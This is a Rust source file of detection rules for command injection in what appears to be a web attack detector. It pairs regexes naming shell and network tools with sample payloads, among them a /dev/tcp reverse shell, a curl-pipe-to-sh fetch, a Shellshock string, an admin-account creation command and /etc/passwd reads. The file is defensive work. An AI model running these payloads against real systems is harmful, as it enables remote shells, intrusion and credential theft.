//! Command injection: shells of Unix and Windows.

use crate::attack::rule::{Rule, rule};
use crate::decode::Reach;
use crate::decode::view::View::{Plain, Shell};
use foghorn_domain::finding::Kind::Rce;

const PARAMETER: Reach = Reach::PARAMETER;
const REQUEST: Reach = Reach::REQUEST;
const PH: Reach = Reach::PH;
const PP: Reach = Reach::PP;
const LOG: Reach = Reach::LOG;

/// Programs that an attacker reaches for and that few other words look like.
macro_rules! unix_programs {
    () => {
        r"(cat|tac|head|tail|more|less|wget|curl|lwp-\w+|lynx|whoami|uname|ifconfig|netstat|nslookup|telnet|ncat|netcat|nc|socat|bash|sh|dash|zsh|ksh|csh|tcsh|fish|busybox|python[\d.]*|perl|ruby|php\d?|node|lua|gcc|awk|gawk|nawk|sed|grep|egrep|fgrep|zgrep|find|xargs|tar|gzip|gunzip|zcat|bzip2|unzip|zip|chmod|chown|chgrp|rm|cp|mv|mkdir|rmdir|touch|ln|ls|dir|id|ps|pwd|env|printenv|set|export|sleep|ping6?|traceroute|dig|host|getent|kill|killall|pkill|sudo|su|passwd|useradd|adduser|usermod|crontab|at|service|systemctl|mount|umount|df|du|dd|base64|base32|xxd|od|hexdump|strings|openssl|ssh|scp|sftp|ftp|tftp|rsync|git|svn|vi|vim|nano|ed|emacs|screen|tmux|nohup|timeout|time|watch|strace|gdb|make|apt|apt-get|yum|dnf|apk|pip|npm|gem|docker|kubectl|mysql|psql|sqlite3|redis-cli|echo|printf|tee|rev|nl|sort|uniq|cut|tr|wc|date|hostname|finger|last|lastlog|who|w|uptime|top|free|arp|route|ip|iptables|ss|lsof|mail|sendmail|logname|alias|exec|eval|source|command|type|which|whereis|reboot|shutdown|halt|poweroff|init|mkfifo|mknod|stat|file|expr|seq|yes|true|false|test|shred|split|fmt|fold|paste|comm|diff|cmp|jq|crontab|systemd\w*|ld\.so|lsb_release|groups|users|pgrep|dmesg|history|jobs|trap|ulimit|unset|declare|readlink|realpath|basename|dirname|cpio|ar|pax|rpm|dpkg|gimp|irb|jrunscript|jjs|julia|msfconsole|nmap|tcpdump|tshark|view|rvim|zsoelim|sqlmap|wish|tclsh|expect|aria2c|axel|fetch|nice|ionice|setarch|stdbuf|taskset|unshare|chroot|flock|run-parts|run-mailcap|start-stop-daemon|rlwrap|script|pic|pico)"
    };
}

/// The same for Windows.
macro_rules! windows_programs {
    () => {
        r"(cmd(\.exe)?|command\.com|powershell(\.exe)?|pwsh|certutil|bitsadmin|wmic|cscript|wscript|mshta|rundll32|regsvr32|reg|regedit|net1?|netsh|ipconfig|systeminfo|tasklist|taskkill|schtasks|whoami|ver|vol|dir|type|copy|xcopy|robocopy|del|erase|ren|move|attrib|cacls|icacls|findstr|ping|tracert|nslookup|arp|route|nbtstat|netstat|shutdown|start|assoc|ftype|fsutil|diskpart|format|sc|wevtutil|mklink|sysinfo|gpresult|driverquery|bcdboot|bcdedit|chkdsk|cipher|compact|convert|doskey|fc|forfiles|ftp|tftp|hostname|label|mode|msiexec|mshta|openfiles|pushd|qwinsta|query|rasdial|recover|replace|runas|set|sfc|takeown|timeout|tree|typeperf|vssadmin|waitfor|where)"
    };
}

pub(super) const RULES: &[Rule] = &[
    rule("rce.separated_command", Rce, 0.65, REQUEST, Shell, &[";", "|", "&", "`", "$(", "\n", "<(", ">("],
        concat!(r"([;|`\n\r]|&&?|\|\||\$\(|[<>]\()[\s({`!\x22]*((sudo|time|nohup|command|exec|env|busybox|eval|nice|setsid|timeout \d+)\s+([\w-]+=\S*\s+|-\w+\s+)*)?([\w./?*-]*/)?", unix_programs!(), r"(\s+(-{1,2}\w|[/~.$*<>|;&\d'\x22\\]|[\w.-]+[/.@:=]|\w+\s*[;|&`)<>]|\w+$|hosts|x\W)|\s*[;|&`)<>#\n]|\s*$|/)"),
        "127.0.0.1; cat /etc/passwd", "a hero; more than"),
    rule("rce.separated_plain_command", Rce, 0.5, PARAMETER, Plain, &[";", "|", "&", "`", "$("],
        r"([;|`]|&&|\|\||&|\$\()\s*(id|whoami|ls|pwd|uname( -\w+)?|ifconfig|ipconfig|netstat( -\w+)?|dir|ver|set|env|ps( \w+)?|systeminfo|tasklist|hostname|net\s+(user|view|localgroup|share|start|use)|w|who|date|true|phpinfo\(\)|reboot)\s*[;|&`)#]*\s*$", "a);id|", "a & b"),
    rule("rce.separated_windows_command", Rce, 0.6, PH, Shell, &["|", "&", ";", "\n", "%", "^"],
        concat!(r"([;|`\n\r]|&&?|\|\|)[\s(@+]*", windows_programs!(), r"([\s+]+(/\w|-\w|[a-z]:|\\|%\w|[\w.-]+\.(exe|bat|txt|ps1|vbs|dll|com|dat|ini)|(user|view|localgroup|share|start|use|add|query|accounts|group)\b|\*|\d+\.\d)|\.exe\b|\s*[|&;]|\s*$)"),
        "& net user hacker x /add", "AT&T copy center"),
    rule("rce.leading_command", Rce, 0.45, PARAMETER, Shell,
        &["cat ", "wget ", "curl ", "bash ", "sh -", "nc ", "ncat ", "perl ", "python", "ruby ", "php -", "ls -", "ls /", "rm -", "chmod ", "ping -", "uname -", "sleep ", "id;", "echo ", "find ", "tail ", "head ", "grep ", "awk ", "sed ", "tar ", "telnet ", "ssh ", "socat", "lwp-", "nslookup ", "dig ", "sudo ", "time ", "env ", "export ", "alias ", "busybox ", "zsh ", "ksh ", "cp /", "mv /", "touch /", "mkdir ", "netstat -", "ifconfig", "whoami", "systemctl ", "kill ", "nohup ", "exec ", "eval ", "gcc ", "mysql -", "openssl ", "base64 ", "xxd ", "cd /", "cd ..", "more /", "less /", "useradd", "adduser", "crontab ", "dd ", "printenv", "ps -", "ps aux", "tee ", "docker ", "kubectl ", "git ", "apt", "yum ", "pip ", "npm ", "mount ", "killall ", "pkill ", "source ", "/sh ", "nmap ", "expr ", "type ", "crontab", "tcpdump", "mail ", "gzip", "command ", "csh ", "su ", "getent "],
        concat!(r"^[\s'\x22()@+-]*((sudo|time|nohup|command|exec|env|busybox|eval|setsid|nice|timeout \d+|xargs|watch|strace)\s+(-\w+\s+|[\w-]+=\S*\s+)*)*", unix_programs!(), r"(\s+-{1,2}\w+(\s|=|$|[;|&'])|\s+-?\w*\s*[~/]\w|\s+[/.~]/?\w+[/.]|\s+(https?|ftp)://|\s+\S+\s*[|;&]|\s+.*[^\w](/etc/|/dev/|/bin/|/tmp/|<\(|\$\(|`|\|\s*\w+\s|>\s*/?\w|sh -c|whoami|\|\s*(ba)?sh))"),
        "wget http://x/y.sh", "echo in the mirror"),
    rule("rce.prefixed_command", Rce, 0.5, PARAMETER, Shell, &["sh -c", "time ", "sudo ", "env ", "exec ", "eval ", "command ", "nohup ", "busybox ", "alias ", "whoami", "xargs "],
        r"\b(sudo|time|nohup|command|exec|env|busybox|eval|xargs|alias|trap|watch)\s+((-\w+|\w+=\S*)\s+)*(sh|bash|zsh|dash|ksh|whoami|cat|id|ls|wget|curl|nc|ifconfig|ping|uname|python\d?|perl|ruby|php|sleep|rm|kill\w*|ps|netstat)\b(\s|$|[;|&])|\b(ba|z|k|c|da|tc)?sh\s+-c\b|=\s*env\s*&", "time sh -c whoami", "time warner"),
    rule("rce.binary_path", Rce, 0.6, REQUEST, Shell, &["bin/", "bin\\"],
        concat!(r"(^|[^\w])(/?usr)?(/local)?/s?bin/[\s\x22']*", unix_programs!(), r"(\b|\d|$)|/bin/\S*[?*\[]\S*|/usr/s?bin/[\w.+-]+(\s|$|;|\|)"), "/usr/bin/id", "/cabin/cat"),
    rule("rce.wildcard_path", Rce, 0.6, PH, Plain, &["/?", "?/", "/*", "*/"], r"/[?*][?*\w]*(/[?*\w\[\]]*[?*][?*\w\[\]]*)+|/(bin|etc|usr|b[?*]n|e[?*]c|u[?*]r)/\w*[?*]+\w*|/[\w]*[?*]+[\w?*]*/(passwd|p\w*[?*]\w*|cat|c[?*]t|sh|ls|nc|id)\b|/\?\?\?/|/\w?\?+\w?/\w*\?", "/???/c?t", "what/?a"),
    rule("rce.substitution", Rce, 0.45, PH, Plain, &["$(", "`", "${", "<(", "$(("],
        concat!(r"\$\(\s*[\s(`]*(/[\w/]+/)?", unix_programs!(), r"[\s)<;|(`$]|`\s*(/[\w/]+/)?", unix_programs!(), r"(\s+[^`]+)?`|\$\(\s*<|\$\(\(?[^)]+\)\)?|[<>]\([^)]+\)|\$\{\w+[:%#/@^,]|\$\{[^}]{0,10}[!@]|\$\{\w+\}|\$\{?ifs\b|\$\{!|\$\{[a-z]*print"), "$(whoami)", "`foo`;`bar`"),
    rule("rce.ifs", Rce, 0.6, REQUEST, Plain, &["$ifs", "${ifs"], r"\$\{?ifs\b", "cat${IFS}x", "if s"),
    rule("rce.shellshock", Rce, 0.85, Reach::ALL, Plain, &["()"], r"\(\s*\)\s*\{\s*[^}]{0,20}:?\s*;?\s*\}?\s*;?", "() { :;}; /bin/id", "call f(x) { }"),
    rule("rce.dev_tcp", Rce, 0.75, REQUEST, Plain, &["/dev/tcp", "/dev/udp", "/dev/null", "2>&1", "0>&1", ">&"], r"/dev/(tcp|udp)/|[>&]\s*/dev/null|[012]?>&[012]\b|-e\s+/bin/", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "/dev/tcpx"),
    rule("rce.fetch_and_run", Rce, 0.7, Reach::ALL, Plain, &["wget", "curl"], r"\b(wget|curl)\s+(-\w+\s+)*['\x22]?(https?|ftp)://[^|;&]{3,}(\||;|&&)\s*(sudo\s+)?(ba|z|da)?(sh|perl|python\d?|php|chmod)\b", "curl http://x/a | sh", "wget http://x/a.tar.gz"),
    rule("rce.download", Rce, 0.5, PARAMETER, Shell, &["wget", "curl", "lwp-"], r"(^|[\W_])(wget|curl|lwp-(request|download))[\s+]+(-[\w-]+[\s+]+)*['\x22]?(https?:|ftp:|\d+\.\d+\.\d+\.\d+|[\w-]+\.\w+/)", "x wget http://e.test/r.txt", "wget is a tool"),
    rule("rce.powershell", Rce, 0.7, REQUEST, Plain, &["powershell", "invoke-", "downloadstring", "downloadfile", "frombase64string", "new-object", "get-content", "start-process", "-encodedcommand", "iex", "pwsh", "-executionpolicy"],
        r"\bpowershell(\.exe)?\s+[-\x22'/(\w]|\binvoke-(expression|webrequest|command|item|wmimethod|restmethod|mimikatz)\b|\.download(string|file)\s*\(|frombase64string\s*\(|\bnew-object\s+(system|net|io)|\b(get|set|add)-(content|process|service|childitem|wmiobject|aduser|acl|item\w*)\b|\bstart-process\b|-encodedcommand\b|\biex\s*\(|-executionpolicy\b", "powershell -enc AAAA", "power shell"),
    rule("rce.windows_shell", Rce, 0.65, PH, Plain, &["cmd", "command.com", "system32", "net user", "net localgroup", "reg add", "certutil", "netsh ", "hklm\\", "winnt\\", "wmic ", "tasklist", "schtasks", "rundll32", "regsvr32", "mshta", "bitsadmin"],
        r"\bcmd(\.exe)?\s*/[a-z]\b|\bcmd\.exe\b|\bcommand\.com\b|system32[/\\]+cmd|\bnet\s+(user|localgroup|share|view|group)\s+(/?\w+|\x22)|\breg\s+(add|query|delete|save)\s+.?hk|\bcertutil(\.exe)?\s+-|\bnetsh\s+(\w+\s+)?(firewall|advfirewall|wlan|add|set)|\bwmic\s+\w+\s+\w+|\bschtasks\s+/|\b(rundll32|regsvr32|mshta|bitsadmin)(\.exe)?\s+[/\w]", "cmd.exe /c dir", "cmd line"),
    rule("rce.windows_leading", Rce, 0.45, PARAMETER, Plain, &["dir ", "dir+", "type ", "del ", "copy ", "if ", "for ", "start ", "echo ", "ping ", "ipconfig", "systeminfo", "netstat", "attrib ", "net ", "bcdboot", "vol ", "set ", "call ", "findstr", "tasklist", "icacls", "reg "],
        r"^[\s+&|'\x22@(]*(dir|type|del|copy|xcopy|attrib|icacls|move|ren|findstr|start|vol|echo|more)[\s+]+(/\w\s+)*([a-z]:[\\/\s\x22']?|%\w+%|\\\\|\*\.\*)|^\W*(ipconfig|systeminfo|tasklist|netstat)(\s+[/-]\w+)?\s*$|\bif\s+(/i\s+)?(not\s+)?(exist|errorlevel|defined|cmdextversion)\s+\S+|\bif\s+/i\s+\S+==\S+|\bfor\s+(/[dflr]\s+)?([^\s%]+\s+)?%+\S+\s+in\s*\(|\b(bcdboot|bcdedit|diskpart|fsutil|driverquery|wevtutil|gpresult)\s+[/\w]",
        "type C:\\Windows\\repair\\SAM", "type of C"),
    rule("rce.in_log", Rce, 0.6, LOG, Plain, &["/etc/passwd", "/etc/shadow", "/bin/sh", "/bin/bash", "whoami", "rm -rf"], r"(=|input|param\w*|value|query|body|payload|user)\S{0,20}[:=]\s*\S*(;|\||&&|`|\$\()\s*(cat\s+/etc/|rm\s+-rf|whoami|id\b|wget\s+http|curl\s+http|nc\s+-|/bin/(ba)?sh)", "input: 127.0.0.1; cat /etc/passwd", "ran whoami"),
    rule("rce.shell_builtin", Rce, 0.4, PARAMETER, Shell, &["if [", "[ -", "while ", "for ", "then", "done", "do "], r"\bif\s+\[+\s+|\bwhile\s+(true|:|read|\[)\s*;|\bfor\s+\w+\s+in\s+[^;]+;\s*do\b|;\s*(then|do|done|fi|esac)\b", "for i in 1 2; do x; done", "for whom in; the bell"),
    rule("rce.redirect", Rce, 0.35, PARAMETER, Plain, &[">"], r"(echo|print|cat)\b.+>\s*[\w./]+\.(php|pl|py|sh|jsp|asp|txt|bat|cgi)\b|>\s*/(var/www|tmp|etc|home)/\w", "echo x > a.php", "a > b.txt"),
    rule("rce.interpreter", Rce, 0.6, PH, Plain, &["perl", "python", "ruby", "php", "node", "lua", "awk"], r"\b(perl|ruby|lua|node)\s+-\w*e\w*\s*\S|\bpython[\d.]*\s+-c\s*\S|\bphp\s+-r\s*\S|\bawk\s+'?begin", "perl -e 'print 1'", "perl necklace"),
];
